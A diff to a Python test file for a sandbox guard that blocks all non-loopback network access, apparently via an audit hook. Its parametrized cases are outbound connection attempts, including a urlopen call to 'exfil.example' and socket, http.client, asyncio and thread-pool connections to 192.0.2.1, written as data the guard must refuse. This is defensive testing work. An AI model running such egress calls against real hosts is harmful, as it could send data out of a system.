@@ -1,4 +1,4 @@
-"""The guard: nothing but loopback is reached from this process. An audit hook cannot be taken off, hence subprocesses."""
+"""The guard: nothing but loopback is reached. An audit hook cannot be taken off, hence the subprocesses."""
 
 import subprocess
 import sys
@@ -38,8 +38,7 @@ def run(body):
         "import urllib.request; urllib.request.urlopen('https://exfil.example/')",
         "import http.client; http.client.HTTPSConnection('192.0.2.1', timeout=1).request('GET', '/')",
         "import asyncio; asyncio.run(asyncio.open_connection('192.0.2.1', 443))",
-        "import threading\ndef f():\n    socket.create_connection(('192.0.2.1', 443), timeout=1)\n"
-        "import concurrent.futures as c\nc.ThreadPoolExecutor().submit(f).result()",
+        "from concurrent.futures import ThreadPoolExecutor as P; P().submit(socket.create_connection, ('192.0.2.1', 443)).result()",
     ],
 )
 def test_what_would_leave_is_refused(attempt):
